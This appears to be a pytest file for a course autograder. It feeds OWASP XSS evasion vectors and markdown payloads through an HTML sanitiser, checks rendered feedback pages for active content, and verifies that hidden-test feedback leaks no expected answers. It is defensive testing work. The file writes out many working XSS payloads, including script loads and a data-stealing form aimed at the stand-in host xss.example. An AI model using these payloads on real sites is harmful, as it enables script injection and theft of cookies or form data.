"""Feedback under attack (issue 21, sections 6 and 8).

* Feedback that runs code: a student's outputs and markdown carry the OWASP XSS filter-evasion
  vectors (written here from the published list of techniques); the sanitiser's output, the
  feedback pages and the autograded notebook that the formgrader renders must hold no script,
  no event handler, no javascript:/vbscript:/data:text/html URL, no frame, object, embed, base,
  form or meta refresh, no CSS that loads anything, and every page has a Content-Security-Policy
  that forbids scripts and external loads, first in its <head>.
* Hidden answers learnt from feedback: a student failing a hidden test sees the input and their
  own value, never the expected value; resubmitting constants teaches them nothing beyond
  pass/fail.
"""
from __future__ import annotations

import csv
import html
import math
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import numpy as np
import pytest

from autograder import sandbox
from autograder.judge import mark_hidden_tests
from autograder.sanitize import (CSP, clean_html, clean_markdown, clean_notebook, clean_outputs,
                                 clean_style, harden_page, markdown_as_inert_html,
                                 render_markdown)
from utils import testing

# --- the vectors ----------------------------------------------------------------------------------

VECTORS = [
    # plain, case variations, malformed tags
    "<script>document.title='X1'</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>document.title='X2'</sCrIpT>",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT/SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>document.title='X3';//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<scr<script>ipt>document.title='X4'</scr</script>ipt>",
    "<IMG \"\"\"><SCRIPT>document.title='X5'</SCRIPT>\">",
    "</TITLE><SCRIPT>document.title='X6'</SCRIPT>",
    "\\\";document.title='X7';//",
    # javascript: URLs, encoded
    "<IMG SRC=\"javascript:document.title='X8'\">",
    "<IMG SRC=javascript:document.title='X9'>",
    "<IMG SRC=JaVaScRiPt:document.title='X10'>",
    "<IMG SRC=`javascript:document.title='X11'`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x31&#x29>",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert(1);\">",
    "<IMG SRC=\" &#14;  javascript:alert(1);\">",
    "<a href=\"jAvAsCrIpT&colon;document.title='X12'\">x</a>",
    "<a href=\"&Tab;javascript:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"javascript&#x003A;alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    # event handlers
    "<a onmouseover=\"alert(document.cookie)\">link</a>",
    "<a onmouseover=alert(document.cookie)>link</a>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000049&#0000041\">",
    "<img src=x onerror=document.title='X13'>",
    "<BODY ONLOAD=document.title='X14'>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<details open ontoggle=document.title='X15'>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<svg/onload=document.title='X16'>",
    "<svg><script>document.title='X17'</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    # other elements that load or run things
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(1);\">",
    "<BODY BACKGROUND=\"javascript:alert(1)\">",
    "<IMG DYNSRC=\"javascript:alert(1)\">",
    "<IMG LOWSRC=\"javascript:alert(1)\">",
    "<BGSOUND SRC=\"javascript:alert(1);\">",
    "<BR SIZE=\"&{alert(1)}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.example/xss.css\">",
    "<link rel=\"import\" href=\"http://xss.example/x.html\">",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.example/xss.css>; REL=stylesheet\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
    "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://xss.example/\">",
    "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<iframe srcdoc=\"&lt;script&gt;parent.document.title='X18'&lt;/script&gt;\"></iframe>",
    "<iframe src=http://xss.example/scriptlet.html <",
    "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert(1)\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert(1)\">",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<base href=\"http://xss.example/\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<object data=\"javascript:alert(1)\">",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciI"
    "G9ubG9hZD0iYWxlcnQoMSkiLz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"http://xss.example/steal\"><input name=p><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    # CSS
    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.example/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE TYPE=\"text/javascript\">alert(1);</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert(1)\");}</STYLE><A CLASS=XSS></A>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1));\">x</div>",
    "<div style=\"background:url(http://xss.example/track.png)\">x</div>",
    "<div style=\"background:u\\72 l(http://xss.example/x)\">x</div>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">",
    "<div style=\"color: red; background: url('http://xss.example/a.png')\">x</div>",
    # math, comments, CDATA and raw-text elements
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
]

MARKDOWN_VECTORS = [
    "[a](javascript:document.title='M1')",
    "[a](JAVASCRIPT:alert(1))",
    "[a](  javascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java&#x09;script:alert(1))",
    "<javascript:alert(1)>",
    "![a](javascript:alert(1))",
    "![a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "<img src=x onerror=document.title='M2'>",
    "<details open ontoggle=document.title='M3'>x</details>",
    "$$</p><script>document.title='M4'</script>$$",
    "$<img src=x onerror=alert(1)>$",
    "<div markdown=1>[a](javascript:alert(1))</div>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://xss.example/\">",
    "<base href=\"http://xss.example/\">",
    "<form action=\"http://xss.example/\"><input></form>",
    "<style>body{background:url(http://xss.example/x)}</style>",
    "<iframe srcdoc=\"<script>parent.document.title='M5'</script>\"></iframe>",
]

_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "background",
              "lowsrc", "dynsrc", "poster", "codebase", "cite", "srcset", "ping"}
_BAD_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form",
             "link", "svg", "math", "input", "button", "isindex", "bgsound", "audio", "video",
             "source", "template", "noscript", "textarea", "marquee", "xss"}


def _bad_url(value: str) -> bool:
    squeezed = re.sub(r"[\x00-\x20\x7f-\x9f]", "", html.unescape(value)).lower()
    if squeezed.startswith(("javascript:", "vbscript:", "data:text/html", "livescript:")):
        return True
    return squeezed.startswith("data:") and not re.match(r"data:image/(png|jpeg|gif);", squeezed)


def _bad_css(text: str) -> bool:
    text = text.lower()
    if re.search(r"expression|javascript|behavior|binding|@import", text):
        return True
    return any(not u.strip(" '\"").startswith("data:image/")
               for u in re.findall(r"url\(([^)]*)\)", text))


class _Checker(HTMLParser):
    """Everything active in an HTML text, as a browser would find it (independent of the
    sanitiser's code)."""

    def __init__(self, page: bool):
        super().__init__(convert_charrefs=True)
        self.page, self.problems, self.stack, self.css = page, [], [], []

    def handle_starttag(self, tag, attrs):
        in_head = "head" in self.stack
        if tag in _BAD_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta":
            equiv = dict(attrs).get("http-equiv", "") or ""
            if not (self.page and in_head and equiv.lower() in ("", "content-security-policy")):
                self.problems.append(f"<meta {attrs}>")
        if tag == "style" and not (self.page and in_head):
            self.problems.append("<style> outside the page's head")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "srcdoc":
                self.problems.append("srcdoc")
            if name in _URL_ATTRS and _bad_url(value):
                self.problems.append(f"{tag} {name}={value!r}")
            if name in ("src", "href") and tag in ("img", "link") and \
                    re.match(r"^\s*(https?:)?//", value, re.I):
                self.problems.append(f"external load {tag} {name}={value!r}")
            if name == "style" and _bad_css(value):
                self.problems.append(f"style={value!r}")
        if tag not in ("img", "br", "hr", "meta", "col", "input", "link", "base"):
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if self.stack and self.stack[-1] == tag:
            self.stack.pop()

    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def handle_data(self, data):
        if self.stack and self.stack[-1] == "style":
            self.css.append(data)


def active_content(text: str, page: bool = False) -> list[str]:
    checker = _Checker(page)
    checker.feed(text)
    checker.close()
    problems = checker.problems
    if re.search(r"<\s*/?\s*script", text, re.I):
        problems.append("a script tag in the text")
    if any(_bad_css_sheet(css) for css in checker.css):
        problems.append("a stylesheet that loads or runs something")
    return problems


def _bad_css_sheet(css: str) -> bool:
    low = css.lower()
    return bool(re.search(r"@import|expression\(|behavior\s*:|-moz-binding", low)) or any(
        not u.strip(" '\"").startswith(("data:image/", "#")) for u in re.findall(r"url\(([^)]*)\)", low))


def csp_first_in_head(page: str) -> bool:
    match = re.search(r"<head>\s*<meta http-equiv=\"Content-Security-Policy\" content=\"([^\"]*)\">",
                      page)
    return bool(match) and "script-src 'none'" in match.group(1) and \
        "default-src 'none'" in match.group(1) and page.count("<head") == 1


# --- the sanitiser, alone -------------------------------------------------------------------------

def test_the_checker_finds_what_it_must():
    """The checker itself: every vector is active (or loads something) before cleaning."""
    missed = [v for v in VECTORS if not active_content(v)
              and not re.search(r"url\(|@import|\\\\", v, re.I)]
    # a few vectors only work in old browsers or through quirks a strict parser does not see
    assert len(missed) <= 12, missed


@pytest.mark.parametrize("vector", VECTORS)
def test_clean_html_leaves_nothing_active(vector):
    cleaned = clean_html(vector)
    assert active_content(cleaned) == [], cleaned
    assert active_content(cleaned, page=False) == []
    assert clean_html(cleaned) == cleaned          # already clean: a fixed point


@pytest.mark.parametrize("vector", MARKDOWN_VECTORS)
def test_markdown_is_rendered_without_active_content(vector):
    cleaned = clean_markdown(vector)
    assert active_content(cleaned) == [], cleaned


@pytest.mark.parametrize("vector", MARKDOWN_VECTORS + VECTORS)
def test_stored_markdown_is_inert_for_any_renderer(vector):
    """The autograded notebook keeps a markdown cell that the formgrader renders with raw HTML
    allowed: what is stored must render to nothing active there too."""
    stored = markdown_as_inert_html(vector)
    assert active_content(render_markdown(stored)) == [], stored


def test_ordinary_content_survives():
    kept = clean_html('<p>A <b>bold</b> <a href="https://example.org/x?a=1#f">link</a>, '
                      '<code>x &lt; y</code>, <span style="color: red; position: fixed">red</span>'
                      '<table><tr><td colspan="2">cell</td></tr></table>'
                      '<img src="data:image/png;base64,iVBORw0KGgo=" width="10" alt="dot"></p>')
    for part in ("<b>bold</b>", 'href="https://example.org/x?a=1#f"', "<code>x &lt; y</code>",
                 'style="color: red"', 'colspan="2"', 'src="data:image/png;base64,iVBORw0KGgo="',
                 'alt="dot"'):
        assert part in kept, (part, kept)
    assert "position" not in kept
    assert clean_style("color: red; background: url(x); font-weight: bold") == \
        "color: red; font-weight: bold"
    heading = render_markdown("## Exercise 2: `sigmoid`\n\nSee [above](#Exercise-2:-sigmoid), "
                              "$\\sigma(x) = 1/(1+e^{-x})$.")
    cleaned, changed = clean_html(heading, report=True)
    assert not changed and 'href="#Exercise-2:-sigmoid"' in cleaned


def test_the_course_markdown_is_stored_unchanged():
    """Instructor markdown loses nothing (so the autograded notebook keeps it as written)."""
    from autograder.course import Assignment, read_notebook
    nb = read_notebook(Assignment("c1w2a1_numpy_basics").release_notebook)
    cells = [c for c in nb.cells if c.cell_type == "markdown"]
    assert cells and all(markdown_as_inert_html(c.source) == c.source for c in cells)


def test_outputs_keep_text_and_images_and_drop_active_types_with_a_note():
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    outs = [
        nbformat.v4.new_output("display_data", data={"text/html": VECTORS[0] + "<b>ok</b>",
                                                     "text/plain": "ok"},
                               metadata={"text/html": {"isolated": True}}),
        nbformat.v4.new_output("display_data", data={"application/javascript": "alert(1)"}),
        nbformat.v4.new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2,
                                                         "version_minor": 0},
            "text/plain": "IntSlider(value=3)"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": "<svg onload='x'/>"}),
        nbformat.v4.new_output("display_data", data={"application/x-evil": "<script>"}),
        nbformat.v4.new_output("display_data", data={"image/png": png},
                               metadata={"image/png": {"width": 10, "height": "<x>"}}),
        nbformat.v4.new_output("display_data", data={"image/png": "not base64 <script>"}),
        nbformat.v4.new_output("display_data", data={"text/markdown": MARKDOWN_VECTORS[0]}),
        nbformat.v4.new_output("stream", name="stdout", text="<script>alert(1)</script>"),
    ]
    cleaned = clean_outputs(outs)
    kinds = [sorted(o.get("data", {})) for o in cleaned]
    assert kinds[0] == ["text/html", "text/plain"] and cleaned[0].metadata == {}
    assert "<b>ok</b>" in cleaned[0].data["text/html"]
    notes = [o.data["text/plain"] for o in cleaned if "not shown" in o.get("data", {}).get(
        "text/plain", "")]
    for mime in ("application/javascript", "widget-view", "image/svg+xml", "application/x-evil",
                 "image/png"):
        assert any(mime in n for n in notes), (mime, notes)
    assert ["image/png"] in kinds
    assert {"image/png": {"width": 10}} in [o.get("metadata") for o in cleaned]
    for out in cleaned:
        for mime, value in out.get("data", {}).items():
            if mime == "text/html":
                assert active_content(value) == []
            assert mime in ("text/plain", "text/html", "image/png")
    assert cleaned[-1].text == "<script>alert(1)</script>"      # text: escaped by the template


def test_page_gets_the_policy_first_and_loses_everything_active():
    page = ("<!DOCTYPE html><html><head><script src='https://cdn.example/mathjax.js'></script>"
            "<meta charset='utf-8'><title>t</title>"
            "<style>@import url(http://x/y.css); @font-face{src:url(http://x/f.woff)} "
            "body{color:red;background:url(http://x/b.png)} .a{margin:0}</style></head>"
            "<body onload='x()'><p>kept</p><div>" + "".join(VECTORS) + "</div></body></html>")
    hard = harden_page(page)
    assert csp_first_in_head(hard), hard[:400]
    assert active_content(hard, page=True) == []
    assert "<p>kept</p>" in hard
    assert ".a{margin:0}" in hard and "color:red" in hard
    bare = harden_page("<html><body><p>No feedback.</p></body></html>")
    assert csp_first_in_head(bare) and "No feedback." in bare
    assert CSP in hard and "img-src data:" in CSP and "form-action 'none'" in CSP


def test_notebook_ids_tags_raw_cells_and_widget_state_are_cleaned():
    nb = nbformat.v4.new_notebook()
    md = nbformat.v4.new_markdown_cell("![x](attachment:evil.html) " + MARKDOWN_VECTORS[9])
    md.attachments = {"evil.html": {"text/html": "PHNjcmlwdD4="}}
    raw = nbformat.v4.new_raw_cell("<script>alert(1)</script>", metadata={
        "raw_mimetype": "text/html"})
    code = nbformat.v4.new_code_cell("x", metadata={"tags": ['a" onmouseover="alert(1)', "ok"]})
    code.id = 'x" onmouseover="alert(1)'
    nb.cells = [md, raw, code]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    clean_notebook(nb)
    assert md.attachments == {} and "widgets" not in nb.metadata
    assert "raw_mimetype" not in raw.metadata
    assert code.metadata["tags"] == ["ok"] and re.fullmatch(r"[A-Za-z0-9_-]+", code.id)
    assert active_content(render_markdown(md.source)) == []


# --- hidden tests' messages ------------------------------------------------------------------------

def _ref_sigmoid(x):
    return 1.0 / (1.0 + math.exp(-x))


def _message(active: bool, student) -> str:
    with testing.hidden_tests(active):
        with pytest.raises(testing.CheckFailure) as info:
            testing.check_function("basic_sigmoid", student, _ref_sigmoid,
                                   lambda rng: (float(rng.uniform(-8, 8)),), trials=8)
    return str(info.value)


def test_hidden_messages_show_the_input_and_the_students_value_never_the_expected():
    rng = np.random.default_rng(1)
    x = float(rng.uniform(-8, 8))
    expected = _ref_sigmoid(x)
    visible = _message(False, lambda x: 0.5)
    assert repr(expected) in visible and "expected:" in visible          # as before
    hidden = _message(True, lambda x: 0.5)
    assert repr(expected) not in hidden and f"{expected:.4g}" not in hidden
    assert "expected:" not in hidden and "got:      0.5" in hidden and repr(x) in hidden
    assert "hint:" in hidden
    # an array that is off by a factor: no ratio, no largest difference
    with testing.hidden_tests():
        with pytest.raises(testing.CheckFailure) as info:
            testing.check("s", np.array([1.0, 2.0, 3.0]), np.array([2.0, 4.0, 6.0]))
    text = str(info.value)
    assert "times the expected" not in text and "largest difference" not in text
    assert "4." not in text and "6." not in text and "hint:" in text


def _mask(message: str) -> str:
    """The message with the student's own value (the "got:" line) masked."""
    return re.sub(r"got: [^\n]*", "got: <mine>", message)


def test_constants_learn_nothing_beyond_pass_fail():
    """Messages for different wrong constants differ only in the student's own value."""
    messages = [_message(True, lambda x, c=c: c) for c in (0.1, 0.5, 0.9, -3.0)]
    assert len({_mask(m) for m in messages}) == 1, messages
    x = float(np.random.default_rng(1).uniform(-8, 8))
    assert not any(repr(_ref_sigmoid(x)) in m or "expected:" in m for m in messages)


def test_the_judge_runs_only_the_hidden_part_as_hidden():
    source = ("check('a', 1.0, 2.0)\n### BEGIN HIDDEN TESTS\ncheck('b', 1.0, 3.0)\n"
              "### END HIDDEN TESTS\npassed('x')")
    code, hidden = mark_hidden_tests(source)
    assert hidden
    ns = {"check": testing.check, "passed": testing.passed}
    switch = "__course_hidden_tests__"
    ns[switch] = testing._set_hidden
    lines = code.split("\n")
    with testing.hidden_tests(False):
        with pytest.raises(testing.CheckFailure) as visible:
            exec(compile(lines[0], "<t>", "exec"), ns)
        with pytest.raises(testing.CheckFailure) as hidden_failure:
            exec(compile("\n".join(lines[1:3]), "<t>", "exec"), ns)
        exec(compile("\n".join(lines[3:]), "<t>", "exec"), ns)
        assert testing._hidden["active"] is False
    assert "expected: 2" in str(visible.value)
    assert "3" not in str(hidden_failure.value).replace("got:      1", "")
    indented = "for i in range(2):\n### BEGIN HIDDEN TESTS\n    check('b', 1.0, 1.0)\n" \
               "### END HIDDEN TESTS\npassed('x')"
    code, _ = mark_hidden_tests(indented)
    compile(code, "<t>", "exec")
    assert f"    {switch}(True)" in code and f"    {switch}(False)" in code


# --- end to end: students graded by `course autograde` ----------------------------------------------

needs_sandbox = pytest.mark.skipif(sandbox.unavailable() is not None,
                                   reason=f"no sandbox here: {sandbox.unavailable()}")

VISIBLE = {1: 0.7310585786300049, 0: 0.5, -2.5: 0.07585818002124355}


def _xss_notebook():
    from test_redteam import A, notebook
    attack = (
        "from IPython.display import display, HTML, Javascript, SVG, Markdown\n"
        "display(Javascript('document.title=\"PWNED-js\"'))\n"
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.title=1\">"
        "<script>document.title=2</script><circle r=\"4\"/></svg>'))\n"
        "display({'text/html': '<b>iso</b><script>document.title=3</script>', 'text/plain': 'iso'},"
        " raw=True, metadata={'text/html': {'isolated': True}})\n"
        "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'm', 'version_major': 2,"
        " 'version_minor': 0}, 'text/plain': 'a widget'}, raw=True)\n"
        "display({'application/x-evil': '<script>document.title=4</script>'}, raw=True)\n"
        f"display(Markdown({MARKDOWN_VECTORS[0]!r}))\n"
        "print('<script>document.title=6</script>')\n")
    nb = notebook(A, attack, solved=True)
    md = nbformat.v4.new_markdown_cell("\n\n".join(MARKDOWN_VECTORS + VECTORS[:20]) +
                                       "\n\n![x](attachment:evil.html)")
    md.attachments = {"evil.html": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}}
    raw = nbformat.v4.new_raw_cell("<script>document.title='raw'</script>",
                                   metadata={"raw_mimetype": "text/html"})
    tagged = nbformat.v4.new_code_cell("print('tagged')",
                                       metadata={"tags": ['x" onmouseover="alert(1)']})
    # a cell shows at most 50 outputs in feedback: the vectors go in cells of 40
    shown = [nbformat.v4.new_code_cell("from IPython.display import display, HTML\n"
                                       f"for v in {VECTORS[i:i + 40]!r}:\n    display(HTML(v))")
             for i in range(0, len(VECTORS), 40)]
    nb.cells[1:1] = [md, raw, tagged] + shown
    return nb


def _constant_notebook(constant: float, learned: dict):
    """basic_sigmoid answers the visible tests (printed in the notebook), then whatever earlier
    feedback revealed, else a constant; everything else is left unsolved."""
    from test_redteam import A, notebook
    table = {**VISIBLE, **learned}
    return notebook(A, replace={"basic_sigmoid": (
        f"def basic_sigmoid(x):\n    return {table!r}.get(x, {constant!r})")})


def _learned(page: str) -> dict:
    """What a student reads off a hidden failure: the input and the expected value shown."""
    text = html.unescape(re.sub(r"<[^>]+>", "", page))
    found = {}
    for exp, x in re.findall(r"expected: ([-0-9.e]+)\s+got:[^\n]*\n(?:\s*hint:[^\n]*\n)?"
                             r"\s*on random input \d+ of \d+: \(([-0-9.e]+)", text):
        found[float(x)] = float(exp)
    return found


def _hidden_failure(page: str) -> str:
    text = html.unescape(re.sub(r"<[^>]+>", "", page))
    match = re.search(r"basic_sigmoid\(\.\.\.\):.*?on random input \d+ of \d+: \([^)]*\)", text,
                      re.S)
    return match.group(0) if match else ""


CONSTANTS = (0.1, 0.5, 0.9)           # eve's answer to what feedback has not revealed, per round


def _round(k: int, out: Path, learned: dict, results: dict) -> dict:
    """Eve's k-th submission, graded into ``out``: what she reads and what the grader keeps."""
    constant = CONSTANTS[k]
    page = (out / "feedback" / f"{results['eve'].sid}.html").read_text()
    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv"))}
    return dict(constant=constant, page=page, row=dict(rows["eve"]),
                grades=(out / "grades.csv").read_text(), learned=dict(learned))


def c1w2a1_students(subs, handed_in, out, tmp_path_factory):
    """Round 1 (see ``rounds``) is graded with the shared c1w2a1 class (see conftest.py)."""
    from test_redteam import A, notebook
    nbformat.write(_xss_notebook(), str(subs / "xss.ipynb"))
    nbformat.write(notebook(A, replace={"sigmoid": "def sigmoid(x):\n    return x"}),
                   str(subs / "visible_wrong.ipynb"))
    nbformat.write(_constant_notebook(CONSTANTS[0], {}), str(subs / "eve.ipynb"))
    batch = yield
    return dict(batch, first=_round(0, batch["out"], {}, batch["results"]))


@pytest.fixture(scope="module")
def rounds(c1w2a1_class, tmp_path_factory):
    """Round 1 grades the XSS student and the first constant (with the shared c1w2a1 class);
    each later round resubmits with a new constant plus everything the earlier feedback
    revealed."""
    from autograder.grading import autograde
    from test_redteam import A
    first = c1w2a1_class["test_redteam_feedback"]
    history = [first["first"]]
    learned = dict(_learned(history[0]["page"]))
    out = tmp_path_factory.mktemp("out")
    for k in (1, 2):
        subs = tmp_path_factory.mktemp(f"subs{k}")
        nbformat.write(_constant_notebook(CONSTANTS[k], learned), str(subs / "eve.ipynb"))
        results = autograde(subs, A, out, jobs=2, log=lambda *a: None)
        history.append(_round(k, out, learned, results))
        learned.update(_learned(history[-1]["page"]))
    return dict(out=first["out"], history=history, learned=learned, results=first["results"],
                rows=first["rows"])


@needs_sandbox
def test_feedback_page_has_no_active_content(rounds):
    page = (rounds["out"] / "feedback" / f"{rounds['results']['xss'].sid}.html").read_text()
    assert float(rounds["rows"]["xss"]["score"]) == float(rounds["rows"]["xss"]["max_score"])
    assert active_content(page, page=True) == []
    assert csp_first_in_head(page)
    assert "mathjax" not in page.lower() or "<script" not in page.lower()
    # what was dropped says so, and ordinary output is still there
    for note in ("application/javascript not shown", "image/svg+xml not shown",
                 "widget-view+json not shown", "application/x-evil not shown"):
        assert note in page, note
    assert "&lt;script&gt;document.title=6&lt;/script&gt;" in page      # printed text, escaped
    assert "All tests passed for softmax" in page


@needs_sandbox
def test_nbgraders_own_feedback_copy_is_clean_too(rounds):
    sid = rounds["results"]["xss"].sid
    pages = list((rounds["out"] / "course" / "feedback" / sid).rglob("*.html"))
    assert pages
    for page in pages:
        text = page.read_text()
        assert active_content(text, page=True) == [] and csp_first_in_head(text)


@needs_sandbox
def test_formgrader_sees_an_inert_autograded_notebook(rounds):
    """The formgrader renders the autograded notebook (outputs as stored, markdown with raw HTML
    allowed): what is stored holds nothing active."""
    sid = rounds["results"]["xss"].sid
    [path] = (rounds["out"] / "course" / "autograded" / sid).rglob("*.ipynb")
    nb = nbformat.read(str(path), as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "markdown":
            assert active_content(render_markdown(cell.source)) == [], cell.source[:200]
            assert not cell.get("attachments")
        elif cell.cell_type == "raw":
            assert "raw_mimetype" not in cell.metadata
        else:
            assert all(re.fullmatch(r"[A-Za-z0-9_-]+", t) for t in cell.metadata.get("tags", []))
            for out in cell.outputs:
                for mime, value in out.get("data", {}).items():
                    assert mime in ("text/plain", "text/html", "image/png", "image/jpeg",
                                    "text/latex"), mime
                    if mime == "text/html":
                        assert active_content(value) == [], value[:200]
                assert "isolated" not in str(out.get("metadata", {}))
    # the formgrader's own rendering, with the course configuration, is clean as well
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config
    from autograder import sanitize
    from autograder.feedback import SanitizeNotebook
    c = Config()
    c.HTMLExporter.preprocessors = [SanitizeNotebook]
    c.HTMLExporter.filters = {"markdown2html": sanitize.markdown2html,
                              "clean_html": sanitize.clean_html}
    c.HTMLExporter.sanitize_html = True
    body, _ = HTMLExporter(config=c, template_name="classic").from_filename(str(path))
    student_part = body[body.index("<body"):]
    problems = [p for p in active_content(student_part)
                if "script" not in p]      # the classic template's own require.js/MathJax
    assert problems == []


@needs_sandbox
def test_a_visible_failure_still_shows_the_expected_value(rounds):
    page = (rounds["out"] / "feedback" /
            f"{rounds['results']['visible_wrong'].sid}.html").read_text()
    assert "expected:" in html.unescape(page) and "0.73105858" in page


@needs_sandbox
def test_a_hidden_failure_never_shows_the_expected_value(rounds):
    rng = np.random.default_rng(1)
    x = float(rng.uniform(-8, 8))
    secrets = [_ref_sigmoid(x), 9.357622968840175e-14]
    for round_ in rounds["history"]:
        failure = _hidden_failure(round_["page"])
        assert failure and repr(x) in failure, failure      # the input is shown ...
        assert repr(round_["constant"]) in failure          # ... and the student's value
        assert float(round_["row"]["test_basic_sigmoid"]) == 0
        for secret in secrets:
            for form in (repr(secret), f"{secret:.8g}", f"{secret:.6f}"):
